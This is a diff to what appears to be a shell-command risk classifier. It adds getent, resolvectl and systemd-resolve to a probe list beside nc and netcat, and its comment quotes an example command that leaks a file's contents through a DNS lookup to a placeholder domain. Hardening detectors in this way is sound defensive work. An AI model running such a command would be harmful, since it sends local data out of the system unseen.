@@ -159,6 +159,11 @@ const PROBES = new Set([
   "nc",
   "ncat",
   "netcat",
+  // Resolver front ends (review 27): `getent hosts NAME` and `resolvectl query NAME` send NAME to the DNS servers as
+  // dig does (`getent ahosts "x.$(cat a.txt).example"` was tier 0); getent's other databases may ask LDAP or NIS.
+  "getent",
+  "resolvectl",
+  "systemd-resolve",
 ]);
 
 // logger's options that take a value (a short one: the rest of its bundle, or the next word).
